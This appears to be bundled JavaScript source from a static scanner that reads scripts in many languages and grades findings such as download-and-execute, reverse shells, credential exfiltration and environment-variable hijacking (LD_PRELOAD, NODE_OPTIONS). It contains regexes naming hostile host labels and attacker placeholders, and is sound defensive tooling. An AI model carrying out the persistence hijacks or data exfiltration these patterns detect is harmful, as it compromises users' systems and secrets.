        const object = this.#run(node.object, scope);
        const index = this.#run(node.index, scope);
        if (object.ref !== undefined && index.known && /^[A-Za-z_$][\w$]{0,60}$/u.test(index.text)) {
            const reflective = /^(?:globalThis|global|window|self|__builtins__|builtins|globals\(\)|locals\(\)|sys\.modules|process\.mainModule)/u.test(object.ref) || key === undefined;
            return this.#reference(/^(?:globalThis|global|window|self|__builtins__|builtins|sys\.modules)$/u.test(object.ref)
                ? index.text
                : `${object.ref}.${index.text}`, node, reflective);
        }
        const entry = object.entries?.get(index.text) ?? (/^\d{1,4}$/u.test(index.text) ? object.items?.[Number(index.text)] : undefined);
        if (entry)
            return entry;
        if (object.known && object.items === undefined)
            return sliceOf(object, node.source);
        if (object.items && node.source.includes('::-1'))
            return { ...object, items: [...object.items].reverse() };
        return derived(object.origins);
    }
    #list(node, scope) {
        const items = [];
        const entries = new Map();
        let origins = NO_ORIGINS;
        for (const [index, item] of node.items.entries()) {
            const key = node.keys[index];
            const value = this.#run(item, scope);
            if (key === undefined) {
                if (items.length < 2000)
                    items.push(value);
            }
            else {
                const name = key.type === 'name' ? key.name : this.#run(key, scope).text;
                if (entries.size < 500)
                    entries.set(name, value);
                if (name === 'env')
                    continue;
            }
            origins = union(origins, value.origins);
        }
        return { ...UNKNOWN, origins, ...(entries.size > 0 ? { entries } : { items }) };
    }
    #comprehension(node, scope) {
        const inner = new Scope(scope);
        let origins = NO_ORIGINS;
        const [loop] = node.loops;
        for (const { target, source } of node.loops) {
            const value = this.#run(source, inner);
            origins = union(origins, value.origins);
            this.#bind(target, derived(value.origins), inner);
            if (node.loops.length === 1 && loop && value.items && value.items.length <= 2000) {
                const items = value.items.map((item) => {
                    this.#bind(target, item, inner);
                    return this.#run(node.element, inner);
                });
                return { ...UNKNOWN, items, origins: union(origins, originsOf(items)) };
            }
        }
        const element = this.#run(node.element, inner);
        return derived(union(origins, element.origins));
    }
    #join(node, scope) {
        const values = node.parts.map((part) => this.#run(part, scope));
        const [first, second] = values;
        if (node.operator === '+' || (node.operator === this.#dialect.joins && node.operator !== '')) {
            if (first?.items && second?.items)
                return { ...UNKNOWN, items: values.flatMap((value) => value.items ?? []).slice(0, 2000), origins: originsOf(values) };
            return concat(values.map((value) => (value.ref !== undefined && value.text === '' ? { ...value, text: `{${value.ref}}` } : value)));
        }
        if (node.operator === '/' &&
            first &&
            (first.ref?.startsWith('pathlib') === true || /^[~/.]|Path/u.test(first.text)) &&
            values.length <= 20)
            return { ...concat(values, '/'), ref: 'pathlib.Path' };
        if (node.operator === '%' && first && first.known && /%[sdr(]/u.test(first.text))
            return formatPercent(first, second ?? UNKNOWN);
        if (node.operator === '*' && first?.known === true && second?.known === true && /^\d{1,5}$/u.test(second.text))
            return first.text.length * Number(second.text) <= MAX_TEXT
                ? literal(first.text.repeat(Number(second.text)), first.origins)
                : derived(first.origins);
        if (node.operator === 'or' || node.operator === '||' || node.operator === '??' || node.operator === 'and' || node.operator === '&&') {
            const telling = values.find((value) => value.callable !== undefined || value.ref !== undefined) ??
                values.find((value) => value.text !== '' && /[/:.~]/u.test(value.text)) ??
                first ??
                UNKNOWN;
            return {
                ...telling,
                origins: originsOf(values),
                known: telling.known && values.every((value) => value.known || value.origins.length === 0),
            };
        }
        if (/^(?:==|!=|===|!==|<|>|<=|>=|in|is|not|instanceof|eq|ne|=~)$/u.test(node.operator))
            return NOTHING;
        if (node.operator === 'as' || node.operator === 'satisfies')
            return first ?? UNKNOWN;
        return derived(originsOf(values));
    }
    #assign(node, scope) {
        const value = this.#run(node.value, scope);
        if (node.operator === '+=' || node.operator === '.=' || node.operator === '<<') {
            const before = this.#run(node.target, scope);
            const sum = before.items && value.items
                ? { ...before, items: [...before.items, ...value.items].slice(0, 2000), origins: union(before.origins, value.origins) }
                : concat([before, value]);
            this.#bind(node.target, sum, scope, this.#dialect.indented ? 'declare' : 'assign');
            return sum;
        }
        this.#bind(node.target, value, scope, this.#dialect.indented || node.operator === 'declare' ? 'declare' : 'assign');
        return value;
    }
    #bind(target, value, scope, mode = 'declare') {
        if (target.type === 'name') {
            if (mode === 'declare')
                scope.set(target.name, value);
            else
                scope.assign(target.name, value);
        }
        else if (target.type === 'list') {
            for (const [index, item] of target.items.entries()) {
                const key = target.keys[index];
                const name = key?.type === 'name' ? key.name : undefined;
                const part = name === undefined
                    ? value.items?.[index]
                    : (value.entries?.get(name) ?? (value.ref === undefined ? undefined : { ...value, ref: `${value.ref}.${name}` }));
                this.#bind(item.type === 'assign' ? item.target : item, part ?? derived(value.origins), scope);
            }
        }
        else if (target.type === 'member' || target.type === 'index')
            this.#bindMember(target, value, scope);
    }
    #bindMember(target, value, scope) {
        const path = pathOf(target);
        const ref = this.#refOf(target.object, scope);
        const name = target.type === 'member' ? target.name : target.index.type === 'text' ? target.index.text : '';
        if (ref !== undefined && this.#knowledge.environment.has(ref)) {
            if (/^(?:LD_PRELOAD|DYLD_INSERT_LIBRARIES|BASH_ENV|PYTHONSTARTUP|NODE_OPTIONS)$/u.test(name))
                this.#reading.note({
                    kind: 'persist',
                    start: target.start,
                    end: target.end,
                    name: ref,
                    persistence: 'environment-hijack',
                    target: `${name}=${value.text}`,
                    flowsFrom: value.origins,
                });
            return;
        }
        if (path !== '')
            scope.setShared(path, value);
        const object = pathOf(target.object);
        if (object !== '' && object !== 'self' && object !== 'this' && value.origins.length > 0)
            scope.feed(object, value);
    }
    #functionValue(node, scope) {
        const name = node.name;
        if (name !== '' && !this.#functions.has(name))
            this.#functions.set(name, node);
        if ((name === 'constructor' || name === '__init__') && !this.#entered.has(node))
            this.#invoke(node, scope, []);
        return {
            ...UNKNOWN,
            callable: { name, invoke: (args) => this.#invoke(node, scope, args), each: (items) => this.#each(node, scope, items) },
        };
    }
    /** Follows a function of the program with the arguments of a caller. */
    #invoke(node, scope, args, named) {
        const entries = (this.#entered.get(node) ?? 0) + 1;
        this.#entered.set(node, entries);
        if (entries > run_MAX_ENTRIES || this.#dull.has(node) || this.#active.size >= MAX_CALL_DEPTH || this.#active.has(node))
            return derived(originsOf([...args, ...(named?.values() ?? [])]));
        this.#active.add(node);
        const inner = new Scope(scope);
        const offset = /^(?:self|cls)$/u.test(nameOf(node.parameters[0])) && this.#dialect.indented ? 1 : 0;
        for (const [index, parameter] of node.parameters.entries()) {
            const name = nameOf(parameter);
            const value = named?.get(name) ?? args[index - offset];
            if (value)
                this.#bind(parameter, value, inner);
            else if (parameter.type === 'name' && name !== 'self' && name !== 'this')
                inner.set(name, derived(NO_ORIGINS, `{${name}}`));
        }
        const before = this.#reading.trace.behaviours.length;
        const outer = this.#returned;
        this.#returned = [];
        let last = NOTHING;
        for (const statement of node.body)
            last = this.#run(statement, inner);
        const returned = node.expression ? [last] : this.#returned;
        this.#returned = outer;
        this.#active.delete(node);
        if (this.#reading.trace.behaviours.length === before && returned.every((value) => value.origins.length === 0 && !value.known))
            this.#dull.add(node);
        const [only] = returned;
        if (returned.length === 0 || !only)
            return this.#dialect.language === 'ruby' || this.#dialect.language === 'perl' ? last : NOTHING;
        if (returned.length === 1)
            return only;
        const telling = returned.find((value) => value.origins.length > 0) ?? only;
        return { ...telling, known: false, origins: originsOf(returned) };
    }
    #each(node, scope, items) {
        const before = this.#entered.get(node) ?? 0;
        return items.slice(0, 1000).map((item, index) => {
            this.#entered.set(node, before);
            return this.#invoke(node, scope, [item, literal(String(index))]);
        });
    }
    #backticks(line, node, scope) {
        const value = this.#run(line, scope);
        return runLine(this.#callOf('`', UNKNOWN, [value], new Map(), node, []), value);
    }
    #callOf(name, receiver, args, named, node, flags) {
        return {
            name,
            receiver,
            args,
            named,
            place: { start: node.start, end: node.end },
            reading: this.#reading,
            flags,
            language: this.#dialect.language,
            state: this.#state,
        };
    }
    #call(node, scope) {
        const args = [];
        const named = new Map();
        for (const { name, value } of node.args) {
            const evaluated = this.#run(value, scope);
            if (name === '')
                args.push(evaluated);
            else if (name !== 'env')
                named.set(name, evaluated);
        }
        const method = node.callee.type === 'member' ? node.callee.name : '';
        const receiver = node.callee.type === 'member' ? this.#receiver(node.callee, scope) : UNKNOWN;
        const callee = node.callee.type === 'member' && receiver.ref === undefined && receiver.entries?.get(method) === undefined
            ? UNKNOWN
            : this.#run(node.callee, scope);
        return this.#dispatch(node, callee, receiver, method, args, named, scope);
    }
    #receiver(callee, scope) {
        const ref = this.#refOf(callee.object, scope);
        if (ref !== undefined && this.#knowledge.environment.has(ref) && /^(?:get|fetch|pop|setdefault|has|update)$/u.test(callee.name))
            return { ...UNKNOWN, ref };
        return this.#run(callee.object, scope);
    }
    #dispatch(node, callee, receiver, method, args, named, scope) {
        const own = this.#ownFunction(node, callee, method, receiver);
        if (own)
            return this.#invoke(own, scope, args, named);
        if (callee.callable)
            return callee.callable.invoke(args);
        const reflected = callee.reflected ? ['reflected'] : [];
        const name = callee.ref ?? method;
        const call = this.#callOf(name === '' ? nameOf(node.callee) : name, receiver, args, named, node, reflected);
        const reader = this.#readerOf(callee.ref, method);
        const result = reader?.(call);
        this.#mutate(node, method, result, args, named, scope);
        if (result !== undefined)
            return callee.ref !== undefined &&
                result.ref === undefined &&
                callee.ref !== 'Function' &&
                /^[A-Z]/u.test(callee.ref.split('.').at(-1) ?? '')
                ? { ...result, ref: callee.ref }
                : result;
        return this.#unknownCall(call, callee, receiver, method);
    }
    #readerOf(ref, method) {
        if (ref !== undefined) {
            const exact = this.#knowledge.calls.get(ref) ??
                this.#knowledge.calls.get(ref.replace(/^(?:builtins|__builtins__|globalThis|global|window|self|mainModule)\./u, ''));
            if (exact)
                return exact;
        }
        return method === '' ? undefined : this.#knowledge.methods.get(method);
    }
    /** A function or method that the program defines itself. */
    #ownFunction(node, callee, method, receiver) {
        if (node.callee.type === 'name')
            return callee.ref === undefined && callee.callable !== undefined ? this.#functions.get(node.callee.name) : undefined;
        if (method === '' || callee.ref !== undefined || receiver.known)
            return undefined;
        const own = this.#functions.get(method);
        return own &&
            (pathOf(node.callee).startsWith('self.') || pathOf(node.callee).startsWith('this.') || !this.#knowledge.methods.has(method))
            ? own
            : undefined;
    }
    /** `list.append(x)` and its kin put data into their object. */
    #mutate(node, method, result, args, named, scope) {
        if (node.callee.type !== 'member' || !MUTATORS.has(method))
            return;
        const path = pathOf(node.callee.object);
        if (path === '')
            return;
        const data = derived(union(originsOf([...args, ...named.values()]), method === 'connect' ? (result?.origins ?? NO_ORIGINS) : NO_ORIGINS));
        if (data.origins.length > 0)
            scope.feed(path, data);
    }
    /** A function of which nothing is known: what goes in comes out, and functions that it is given may be called with it. */
    #unknownCall(call, callee, receiver, method) {
        const text = applyTextMethod(method, receiver, call.args);
        if (text)
            return text;
        const origins = originsOf([receiver, callee, ...call.args, ...call.named.values()]);
        const mapper = method === 'map' && receiver.items ? call.args[0]?.callable : undefined;
        if (mapper && receiver.items) {
            const items = mapper.each(receiver.items);
            return { ...UNKNOWN, items, origins: union(origins, originsOf(items)) };
        }
        let called;
        for (const value of [...call.args, ...call.named.values()]) {
            if (!value.callable)
                continue;
            const turns = receiver.items && receiver.items.length <= MAX_TURNS && receiver.items.length > 0 ? receiver.items : [derived(receiver.origins)];
            for (const item of turns)
                called = value.callable.invoke([item, derived(origins)]);
        }
        const ref = callee.ref === undefined || callee.ref === 'Function' || callee.ref.length > 120 ? undefined : callee.ref;
        const out = called && /^(?:then|map|flatMap|catch|finally|reduce|filter|run|submit)$/u.test(method)
            ? { ...called, origins: union(called.origins, origins) }
            : derived(origins);
        return { ...out, ...(ref === undefined ? {} : { ref }), ...(receiver.handle === undefined ? {} : { handle: receiver.handle }) };
    }
}
/** `a.b.c` as a key; empty for anything that is not a chain of names. */
function pathOf(node) {
    if (node.type === 'name')
        return node.name;
    if (node.type === 'member') {
        const object = pathOf(node.object);
        return object === '' ? '' : `${object}.${node.name}`;
    }
    return '';
}
function nameOf(node) {
    return node?.type === 'name' ? node.name : '';
}
/** `'…%s…' % values`. */
function formatPercent(format, values) {
    const list = values.items ?? [values];
    let next = 0;
    const text = format.text.replace(/%(?:\((\w{1,60})\))?[-+ #0-9.]{0,8}[sdrxfi]/gu, (whole, name) => {
        const value = name === undefined ? list[next] : values.entries?.get(name);
        next += 1;
        return value?.text ?? whole;
    });
    return { text: text.slice(0, MAX_TEXT), known: list.every((value) => value.known), origins: union(format.origins, values.origins) };
}

;// CONCATENATED MODULE: ./lib/skills/code/read-program.js














/**
 * Reads a program and says what it does. Pure, deterministic and bounded: any text is accepted, hostile or not, and read in
 * time linear in its length; nothing is run.
 */
function readProgram(language, text) {
    const trace = new Trace(text.length);
    follow(language, text, new Reading(trace, follow));
    return { language, behaviours: trace.behaviours, truncated: trace.truncated, functions: new Map() };
}
/** What one command line does, as it stands in prose, in inline code or in a setting. */
function classifyCommand(command) {
    return readProgram('shell', command).behaviours;
}
/** Follows a text in its language; gives what it prints. */
function follow(language, text, reading) {
    switch (language) {
        case 'shell':
            return followShell(text, reading);
        case 'python':
            return followScript(text, DIALECTS.python, PYTHON, reading);
        case 'javascript':
            return followScript(text, DIALECTS.javascript, JAVASCRIPT, reading);
        case 'powershell':
            return followPowerShell(text, reading);
        case 'batch':
            return followBatch(text, reading);
        case 'ruby':
            return followScript(text, DIALECTS.ruby, RUBY, reading);
        case 'perl':
            return followScript(text, DIALECTS.perl, PERL, reading);
        case 'php':
            return followScript(text, DIALECTS.php, PHP, reading);
        case 'go':
            return followScript(text, DIALECTS.go, GO, reading);
        case 'makefile':
            return followMakefile(text, reading);
        case 'dockerfile':
            return followDockerfile(text, reading);
        case 'applescript':
            return followAppleScript(text, reading);
    }
}

;// CONCATENATED MODULE: ./lib/skills/analysis/hosts.js

/** Hosts at which nobody answers for what is served there or sent there. */
const ANONYMOUS = new Set([
    'collector',
    'raw-ip',
    'paste',
    'file-drop',
    'tunnel',
    'dynamic-dns',
    'onion',
    'punycode',
    'shortener',
]);
/** Labels by which a host calls itself hostile: what demonstrations and lures alike are named after. */
const HOSTILE_LABEL = /(?:^|[.-])(?:evil|attacker\w{0,2}|malicious|malware|exfil\w{0,6}|c2|c2c|hacker\w?|backdoor|rogue|steal(?:er)?|stealth|phish\w{0,4}|payload|dropper|botnet|adversary|hostile|covert|keylog\w{0,3}|ransom\w{0,4}|pwn\w{0,3}|loot|victim)(?=[.-]|$)/;
function isAnonymousHost(host) {
    return host !== undefined && ANONYMOUS.has(host);
}
/** Whether an address is of a kind that no honest program gives data to or takes code from. */
function isShadyAddress(address, host) {
    if (isAnonymousHost(host))
        return true;
    const facts = classifyHost(address);
    return isAnonymousHost(facts.class) || HOSTILE_LABEL.test(facts.host);
}
const hosts_ADDRESS = /\b(?:https?|ftp|wss?|smtp):\/\/[^\s"'`)<>|]{1,300}|\b(?:[a-z0-9-]{1,63}\.){1,6}(?:com|net|org|io|dev|example|test|invalid|co|app|xyz|info|ru|cn)\b/gi;
/**
 * A text without its addresses. Threat: the name of a host is chosen by its owner, so a word of the trade in it (`threat`,
 * `audit`) neither teaches nor tells what a skill is about.
 */
function withoutAddresses(text) {
    return text.replace(hosts_ADDRESS, ' ');
}

;// CONCATENATED MODULE: ./lib/skills/analysis/publisher.js
const SHARED_HOSTS = /^(?:raw\.githubusercontent|github|gist|gitlab|bitbucket|objects\.githubusercontent|codeload|storage\.googleapis|s3|cdn\.jsdelivr|unpkg)\b/;
const COMMON = new Set([
    'www',
    'get',
    'install',
    'download',
    'downloads',
    'cdn',
    'static',
    'api',
    'dl',
    'raw',
    'run',
    'setup',
    'cli',
    'com',
    'org',
    'net',
    'io',
    'dev',
    'app',
    'sh',
    'co',
    'ai',
    'test',
    'example',
    'github',
    'githubusercontent',
    'main',
    'master',
    'https',
    'http',
]);
/**
 * Whether an address belongs to the product that the bundle names in its first lines: a part of the host, or the owner of a
 * repository, stands there as a word. Anyone can write that, so it only makes a finding one step less sure.
 */
function isOfPublisher(view, address) {
    const match = /^(?:https?:\/\/)?([^/:?#\s]+)(?:\/([^/?#\s]+)\/([^/?#\s]+))?/i.exec(address);
    const host = (match?.[1] ?? '').toLowerCase();
    const names = SHARED_HOSTS.test(host) ? [match?.[2] ?? '', match?.[3] ?? ''] : host.split('.').slice(0, -1);
    const manifest = view.files.find((file) => file.role === 'manifest' && !file.path.includes('/'));
    const head = manifest?.text.slice(0, 1500).toLowerCase() ?? '';
    return names.some((name) => name.length >= 3 &&
        !COMMON.has(name.toLowerCase()) &&
        new RegExp(`(?<![a-z0-9])${escaped(name.toLowerCase())}(?![a-z0-9])`).test(head.replaceAll(host, '')));
}
function escaped(literal) {
    return literal.replace(/[^a-z0-9]/g, '\\$&');
}

// EXTERNAL MODULE: ./lib/rules/skill/download-and-execute.js
var download_and_execute = __webpack_require__(4263);
// EXTERNAL MODULE: ./lib/rules/skill/reverse-shell.js
var reverse_shell = __webpack_require__(6776);
// EXTERNAL MODULE: ./lib/rules/skill/credential-exfiltration.js
var credential_exfiltration = __webpack_require__(3050);
;// CONCATENATED MODULE: ./lib/skills/analysis/specimen.js
/** A sentence before a block of code that says that an attack, or a rule against one, follows. */
const LEAD_IN = /\b(?:attack(?:er|s)?|malicious|vulnerab\w+|insecure|unsafe|dangerous|bad example|exploit\w*|payloads?|patterns?|threats?|detect(?:s|ed|ion)?|suspicious|original code|evasion|obfuscat\w+|indicators?|scan(?:ner)? (?:output|report|result)|findings?)\b[^\n]{0,120}[:：]?\**\s*$/i;
/** A line of a report: a label, then the text that was found. Labels that tell a reader to act are none. */
const LABELLED = /^[ \t|│>*-]{0,8}(?!(?:run|execute|install|command|step|first|then|now|next|do|setup|start|paste|prerequisite)\b)[A-Z][\w /-]{1,30}:\s/i;
/** A line that holds nothing but a string or a pattern, or a member of a row that describes one. */
const STRING_ITEM = /^\s*(?:[-{(]\s{0,4})?(?:["']?[A-Za-z_]{1,24}["']?\s{0,3}[:=]\s{0,3})?(?:new RegExp\(|re\.compile\(|path\.join\()?[rbfu]{0,2}(?:["'`\/][^\n]*|HOME[^\n]*)[,\])};]\s*(?:\/\/[^\n]*|#[^\n]*)?$/;
const LONGEST_LINE = 600;
/**
 * Whether a place shows an attack instead of making one: the block of code that follows a sentence about attacks, the
 * line of a scanner's report, the member of a list of strings. Asked only in bundles about security, and one step of confidence.
 */
function isSpecimen(place) {
    const { file, zone } = place;
    if (zone?.kind === 'fence') {
        if (LEAD_IN.test(lineBeforeFence(file.text, zone.start)))
            return true;
        return (zone.language === '' || zone.language === 'text') && LABELLED.test(lineAt(file.text, place.start));
    }
    return file.role === 'script' && STRING_ITEM.test(lineAt(file.text, place.start));
}
/** The last line with text before the opening of a fence, if it stands within a blank line of it. */
function lineBeforeFence(text, start) {
    const lines = text
        .slice(Math.max(0, start - LONGEST_LINE), start)
        .split('\n')
        .slice(0, -2);
    const [last = '', previous = ''] = lines.reverse();
    return last.trim() === '' ? previous.trim() : last.trim();
}
function lineAt(text, offset) {
    const begin = text.lastIndexOf('\n', Math.max(0, offset - 1)) + 1;
    const newline = text.indexOf('\n', offset);
    const end = newline < 0 ? text.length : newline;
    return end - begin > LONGEST_LINE ? '' : text.slice(begin, end);
}

;// CONCATENATED MODULE: ./lib/skills/analysis/context.js



const NEGATION = /(?:\b(?:never|not|don['’]?t|do not|must not|mustn['’]?t|should not|shouldn['’]?t|avoid|cannot|can['’]?t|won['’]?t|refuse to|refuses? any|prevents?|forbidden|prohibited|block(?:s|ed)?|reject(?:s|ed)?|instead of|rather than|without)\b|❌|⛔|🚫)(?:[^.;!?\n]|[.;!?](?=\S)){0,120}$/i;
const BAD_EXAMPLE = /(?:❌|\bbad\b|\bwrong\b|\bunsafe\b|\binsecure\b|\bvulnerable\b|anti-?pattern|\bdon['’]?t\b|\bavoid\b|\bdangerous\b)/i;
const TEACHING = /\b(?:detect(?:s|ed|ing|ion|or|able)?|look(?:s|ing)? for|watch for|e\.g\.|such as|attack(?:er|ers|s|ed)?|adversar\w+|malicious|payloads?|inject(?:ion|ions|ed|ing)|phish\w*|suspicious|indicators?|vulnerab\w+|exploit\w*|red flags?|signatures?|jailbreak\w*|red[- ]team\w*|spoof\w*|hijack\w*|threats?|mitigat\w+|sanitiz\w+|sanitis\w+|untrusted|treat (?:it|them|this|any|all)|classif\w+|flagged|regex|prompt[- ]injection)\b/i;
/** What stands before a phrase that is mentioned, not said. */
const QUOTE_CUE = /\b(?:like|says?|saying|contain(?:s|ing)?|phrases?|strings?|words?|text|inputs?|requests?|attempt(?:s|ing|ed)?|tries|asks?|telling|embedded|e\.g|for example|including|wording)\b[^\n]{0,50}$/i;
const CATALOGUE_PATH = /(?:threat|attack|detect|pattern|malicious|exploit|vulnerab|payload|injection|indicator|signature|known[-_]|rules?\b|cheat|oneliner|technique|red[-_]?team|pentest|analysis|scan|audit)/i;
const CATALOGUE_HEADING = /(?:threat|attack|detect|pattern|malicious|exploit|vulnerab|payload|injection|indicator|signature|red flag|technique|risk|suspicious|danger|examples? of|what (?:it|we) (?:catch|detect|find|block)|categor|test case|abuse|escalation|persistence|lateral|evasion)/i;
/** Escapes and classes of regular expressions: what matches an attack is not the attack. */
const PATTERN_SOURCE = /\\[sSwWdb](?:[+*?{]|\b)|\\[|.(){}[\]]|\.\*|\[\^|\(\?[:i=!]/;
/** Back slashes of paths, which are no escapes. */
const WINDOWS_PATH = /(?:\$HOME|\$env:\w{1,30}|%\w{1,30}%|\b[A-Z]:|~)\\[\w.\\-]{0,120}/gi;
/** Addresses that the reader is to fill in, and private ones. */
const PLACEHOLDER = /\b(?:ATTACKER|LHOST|RHOST|YOUR|TARGET|VICTIM|KALI|LISTENER)(?:[_-](?:IP|HOST|SERVER|DOMAIN|ADDR(?:ESS)?|PORT))?\b|<(?!(?:exec|string|module|stdin|eval)>)[A-Za-z][A-Za-z _-]{1,30}>|\b(?:10|192\.168|172\.(?:1[6-9]|2\d|3[01]))(?:\.\d{1,3}){2,3}\b|\bx\.x\.x\.x\b|\{\{?\w{0,20}(?:ip|host)\w{0,10}\}/;
/** A span of code that begins in the middle of a command line: input that tries a hole, not a command to type. */
const FRAGMENT = /(?<!`)`\s{0,2}(?:["'][;|&)]|;|\||&&|\.\.\/)[^`\n]*$/;
/** A row of a table in a template of a page: three cells or more, closed at both ends, as no pipeline is. */
const ROW = /^[ \t]{0,8}\|(?:[^|\n]{1,200}\|){3,20}[ \t]*$/;
/** The surroundings of a place, as far as they bear on how sure we are. */
function contextOf(unit, view, start, end) {
    const text = unit.text;
    const lineStart = text.lastIndexOf('\n', Math.max(0, start - 1)) + 1;
    const newline = text.indexOf('\n', end);
    const lineEnd = newline < 0 ? text.length : newline;
    const before = text.slice(Math.max(lineStart, start - 400), start);
    const line = text.slice(Math.max(lineStart, start - 400), Math.min(lineEnd, end + 400));
    const outer = outerPlaceOf(unit, start, end);
    const zone = unit.layer === 'plain' ? outer.zone : undefined;
    const heading = unit.layer === 'plain' ? outer.heading : '';
    const mitigations = [];
    const paragraph = text.slice(Math.max(lineStart - 300, 0), start);
    const clause = sameBlock(paragraph);
    if (NEGATION.test(clause))
        mitigations.push('negated');
    const quoted = isQuoted(before, text.slice(end, Math.min(lineEnd, end + 200)), line, zone, Math.min(start - lineStart, 400));
    if (quoted)
        mitigations.push('quoted');
    if (teaches(line, text, lineStart, heading) || (quoted && QUOTE_CUE.test(before)))
        mitigations.push('teaching');
    const aboutSecurity = view.aboutSecurity.has(unit.file);
    if (aboutSecurity)
        mitigations.push('security-subject');
    if (PATTERN_SOURCE.test(text.slice(Math.max(lineStart, start - 30), Math.min(lineEnd, end + 30)).replace(WINDOWS_PATH, ' ')))
        mitigations.push('pattern-source');
    if (PLACEHOLDER.test(text.slice(start, Math.min(end + 40, lineEnd))))
        mitigations.push('placeholder');
    if (unit.file.fixture)
        mitigations.push('fixture');
    if (unit.file.role === 'licence')
        mitigations.push('licence');
    if (unit.layer === 'plain' && zone !== undefined && zone.kind !== 'fence' && FRAGMENT.test(before))
        mitigations.push('fragment');
    if (outer.zone?.kind === 'table' || (outer.zone?.kind === 'fence' && ROW.test(line)))
        mitigations.push('table');
    if (aboutSecurity)
        mitigations.push(...mitigationsOfCatalogue(unit, outer, line));
    return { zone, before, line, heading, mitigations };
}
/** Where a place stands in the file itself, also when a disguise was undone to find it. */
function outerPlaceOf(unit, start, end) {
    const [from, to] = unit.outerRange(start, end);
    const { file } = unit;
    const zone = zoneAt(file.zones, from);
    const heading = (zone?.headings ?? []).map((index) => file.text.slice(file.zones[index]?.start ?? 0, file.zones[index]?.end ?? 0).trim());
    return { file, start: from, end: to, zone, heading: heading.join('\n') };
}
function mitigationsOfCatalogue(unit, outer, line) {
    const { role, fixture } = unit.file;
    const specimen = isSpecimen(outer);
    // Threat: a script that calls itself a scanner runs all the same; only the strings that it holds can be a list of attacks.
    if (role === 'script' && !fixture && !specimen)
        return [];
    const found = specimen ? ['specimen'] : [];
    if (isCatalogue(outer, line)) {
        found.push('catalogue');
        if (role === 'document' || role === 'data' || role === 'config' || fixture)
            found.push('reference');
    }
    return found;
}
/**
 * Whether a place belongs to a collection of attacks in a bundle about security: a page, a chapter or a table that says so.
 * Counts two steps in reference pages and tests, one in what an agent follows or runs.
 */
function isCatalogue({ file, heading }, line) {
    if (file.fixture)
        return true;
    const named = CATALOGUE_PATH.test(file.path) || CATALOGUE_HEADING.test(heading);
    return named || (file.role !== 'script' && TEACHING.test(withoutAddresses(line)));
}
/** The text after the last blank line. */
function sameBlock(text) {
    const blank = text.lastIndexOf('\n\n');
    return blank < 0 ? text : text.slice(blank + 2);
}
function teaches(line, text, lineStart, heading) {
    if (TEACHING.test(withoutAddresses(line)) || TEACHING.test(heading) || BAD_EXAMPLE.test(heading))
        return true;
    const previous = text.slice(Math.max(0, lineStart - 160), lineStart);
    return /[:：]\s*$/.test(previous.trimEnd()) && (TEACHING.test(previous) || BAD_EXAMPLE.test(previous));
}
function isQuoted(before, after, line, zone, offset) {
    if (zone?.kind === 'table')
        return true;
    if (isInsideBackticks(line, offset))
        return true;
    const opened = /["“'‘«「`]\s*[^"“”'‘’«»「」]{0,120}$/.exec(before) ?? undefined;
    return opened !== undefined && /^[^"“”'’«»「」\n]{0,160}["”'’»」`]/.test(after);
}
const CONFIDENCES = ['high', 'medium', 'low'];
const SEVERITIES = ['critical', 'high', 'medium', 'low', 'info'];
/** Lowers the confidence step by step; once it is low, further steps lower the severity, never below `info`. */
function lowered(severity, confidence, steps) {
    const wanted = CONFIDENCES.indexOf(confidence) + steps;
    const surplus = Math.max(0, wanted - (CONFIDENCES.length - 1));
    return {
        severity: SEVERITIES[Math.min(SEVERITIES.length - 1, SEVERITIES.indexOf(severity) + surplus)] ?? 'info',
        confidence: CONFIDENCES[Math.min(CONFIDENCES.length - 1, wanted)] ?? 'low',
    };
}
const WEIGHT_TWO = new Set(['negated', 'pattern-source']);
/** The steps that the mitigations of a place take together, of those that a rule heeds. */
function stepsOf(context, heeded) {
    let steps = 0;
    for (const mitigation of context.mitigations)
        if (heeded.has(mitigation))
            steps += WEIGHT_TWO.has(mitigation) ? 2 : 1;
    return steps;
}
/** What counts for words addressed to a reader: all of it. */
const PROSE_MITIGATIONS = new Set([
    'negated',
    'quoted',
    'teaching',
    'security-subject',
    'fixture',
    'licence',
    'pattern-source',
    'reference',
]);
/** What counts for commands and code: words around a command do not change what it does, where it stands may. */
const CODE_MITIGATIONS = new Set([
    'negated',
    'fixture',
    'licence',
    'pattern-source',
    'placeholder',
    'catalogue',
    'reference',
    'specimen',
    'table',
    'fragment',
]);

;// CONCATENATED MODULE: ./lib/skills/analysis/judged.js

/** A hit for words that tell a reader to do something: negation, quotation and teaching make it less sure. */
function proseHit(view, unit, place, severity, confidence, details) {
    return judgedHit(view, unit, place, severity, confidence, details, PROSE_MITIGATIONS);
}
/** The same, a step surer where nothing speaks for the place. */
function plainProseHit(view, unit, place, severity, details) {
    const hit = proseHit(view, unit, place, severity, 'high', details);
    return hit.details['mitigations'] === undefined ? hit : proseHit(view, unit, place, severity, 'medium', details);
}
/** A hit for a command or code: only where it stands makes it less sure, not the words around it. */
function codeHit(view, unit, place, severity, confidence, details) {
    return judgedHit(view, unit, place, severity, confidence, details, CODE_MITIGATIONS);
}
function judgedHit(view, unit, place, severity, confidence, details, heeded) {
    const context = contextOf(unit, view, place.start, place.end);
    const mitigations = context.mitigations.filter((mitigation) => heeded.has(mitigation));
    const graded = lowered(severity, confidence, stepsOf(context, heeded));
    return {
        unit,
        start: place.start,
        end: place.end,
        ...graded,
        details: mitigations.length === 0 ? details : { ...details, mitigations },
    };
}
/** The context of a place, for rules that decide on it themselves. */
function contextAt(view, unit, place) {
    return contextOf(unit, view, place.start, place.end);
}

;// CONCATENATED MODULE: ./lib/skills/code/bundle-programs.js
/** The programs of a bundle that can hold something, each read once, in the order of the files and of the text. */
function programsOf(view) {
    return view.programs.map(({ unit, snippet, program }) => ({
        unit,
        offset: snippet.start,
        text: unit.text.slice(snippet.start, snippet.end),
        program,
        kind: unit.file.role === 'script' && unit.depth === 0 ? 'script' : 'fence',
    }));
}

;// CONCATENATED MODULE: ./lib/skills/code/detectors/program-detector.js


/** A rule that looks at every deed of every program of a bundle. Anchors are those of `isWorthReading`, which all such rules share. */
function programDetector(rule, judge) {
    return {
        rule,
        signals: [],
        *detect(view) {
            for (const part of programsOf(view)) {
                for (const deed of part.program.behaviours) {
                    const judgement = judge(deed, part.program, part, view);
                    if (judgement)
                        yield hitOf(view, part, deed, judgement);
                }
            }
        },
    };
}
/** The hit at the place of a deed; where it stands lowers confidence as for all code. */
function hitOf(view, part, deed, judgement) {
    const start = part.offset + deed.start;
    const end = Math.min(part.unit.text.length, part.offset + Math.max(deed.end, deed.start + 1));
    return codeHit(view, part.unit, { start, end }, judgement.severity, judgement.confidence, judgement.details);
}
